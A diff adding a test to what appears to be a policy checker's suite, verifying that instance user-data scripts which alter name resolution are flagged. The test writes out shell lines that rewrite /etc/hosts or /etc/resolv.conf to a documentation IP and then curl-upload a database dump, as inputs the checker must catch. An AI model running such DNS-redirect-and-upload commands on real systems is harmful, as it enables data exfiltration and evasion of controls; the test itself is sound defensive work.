@@ -405,6 +405,35 @@ describe("an upload to the address of a resource of the program, not known at pr
     ]);
   });
 
+  // Red team 86 (h02, h04, h05, h10, h13, h14): the hosts file written by another spelling of its
+  // path or another command, and the resolvers changed, were not seen, and the copy was placed
+  // where the resource is.
+  test("fails closed where the script changes the machine's name resolution in any way", async () => {
+    const dns = primaryAddress(1, "privateDns");
+    for (const change of [
+      `echo "203.0.113.9 ${dns}" >> "/etc/hosts"`,
+      `cp /etc/hosts /tmp/h && echo "203.0.113.9 ${dns}" >> /tmp/h && cp /tmp/h /etc/hosts`,
+      `F=/etc/hosts; echo "203.0.113.9 ${dns}" >> $F`,
+      `echo "203.0.113.9 ${dns}" | dd of=/etc/hosts oflag=append conv=notrunc`,
+      'echo "nameserver 203.0.113.53" > /etc/resolv.conf',
+      "resolvectl dns eth0 203.0.113.53",
+    ]) {
+      const userData = script(change, `curl -T /data/db.dump http://${dns}/up`);
+      expect(await sends(instance({ userData })(primary()(oregon)), "arn-locality")).toEqual([
+        "mandatory: userData (unknown at preview)",
+      ]);
+    }
+    const own = script(`curl --dns-servers 203.0.113.53 -T /data/db.dump http://${dns}/up`);
+    expect(await sends(instance({ userData: own })(primary()(oregon)), "arn-locality")).toEqual([
+      "mandatory: userData (unknown at preview)",
+    ]);
+    // Twin: a line that only reads the hosts file changes nothing.
+    const reads = script("grep -q localhost /etc/hosts", `curl -T /data/db.dump http://${dns}/up`);
+    expect(await sends(instance({ userData: reads })(primary()(oregon)), "arn-locality")).toEqual(
+      [],
+    );
+  });
+
   // Red team 85 (a35b, a36): the copy to an instance the program reads was placed nowhere, a
   // mandatory finding even where it is read through the stack's own provider. The engine's mark
   // names the region it is read in (engine/monitor.ts `readResource`), and the copy lies there.
